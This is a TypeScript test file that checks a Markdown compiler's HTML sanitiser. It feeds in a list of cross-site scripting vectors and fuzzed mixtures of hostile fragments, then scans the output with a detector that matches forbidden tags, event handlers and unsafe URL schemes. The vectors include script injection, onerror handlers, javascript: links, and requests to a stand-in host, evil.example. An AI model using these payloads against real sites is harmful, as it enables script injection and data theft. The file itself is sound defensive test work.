import type { Element, Root } from 'hast';
import fc from 'fast-check';
import { htmlToHast } from 'satteri';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { compile } from '../../src/compile.ts';

const forbidden = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'button',
  'link',
  'meta',
  'base',
  'template',
  'svg',
  'math',
]);

/** What in a page could run, style, fetch or submit on its own. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  visit(htmlToHast(html, { fragment: true }) as Root, 'element', (node: Element) => {
    // Faultline's own bars and switches; an author's SVG and inputs never pass the sanitiser.
    const own = node.tagName === 'svg' && node.properties.ariaHidden === 'true';
    if (forbidden.has(node.tagName) && !own) dangers.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || name === 'style' || name === 'srcDoc') dangers.push(`${name}=${value}`);
      const address = /^(href|src|action|cite|longDesc|xLinkHref)$/.test(name) ? String(value).trim() : '';
      if (
        /^[a-z][a-z0-9+.-]*:/i.test(address) &&
        !/^(https?|mailto|faultline|faultline-image):/i.test(address)
      )
        dangers.push(`${name}=${address}`);
      if (name === 'src' && /^(https?:)?\/\//.test(address)) dangers.push(`fetches ${address}`);
    }
  });
  return dangers;
}

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>1</script></svg>',
  '<svg aria-hidden="true" onload="alert(1)"></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="background:url(//evil.example)">x</p>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<a href="faultline:0">fake</a>',
  '<img src="faultline-image:0">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<none onclick=alert(1)> <your-token style="x">',
  '```html\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | 2 s |\n| --- | --- |\n| <b onclick=alert(1)>x</b> | 3 s |',
  '- 10:00 <img src=x onerror=alert(1)>\n- 10:05 <script>alert(1)</script>\n- 10:09 x',
  '**Before** (`<img src=x onerror=alert(1)>`):\n\n```js" onload="x\na\n```\n\n**After**:\n\n```js\nb\n```',
  '```diff title="<img src=x onerror=alert(1)>"\n-a<script>\n+b\n```',
  '```console\n$ echo "<script>alert(1)</script>" \' onclick=x\n<img src=x onerror=alert(1)>\n```',
  '> [!NOTE]\n> <script>alert(1)</script>',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '# <img src=x onerror=alert(1)>',
  '## " onmouseover="alert(1)',
];

test('the detector sees what it looks for', () => {
  expect(dangersIn('<p onclick="x"><script></script><a href="javascript:x">')).toHaveLength(3);
});

test.each(vectors)('%s is harmless', async vector => {
  const { html } = await compile(`# T\n\n${vector}\n`, { format: 'md', kind: 'doc' });
  expect(dangersIn(html)).toEqual([]);
});

test('no mixture of hostile pieces is harmful', async () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ...vectors,
      '\n\n',
      '\n',
      '> ',
      '- ',
      '<',
      '">',
      "'",
      '</',
      '`',
      '|',
      '<!--',
      '-->',
      ']]>',
      '&#x6A;',
    ),
    fc.string({ maxLength: 8 }),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async pieces => {
      const { html } = await compile(pieces.join(''), { format: 'md', kind: 'doc' });
      expect(dangersIn(html)).toEqual([]);
    }),
    { numRuns: 300 },
  );
});
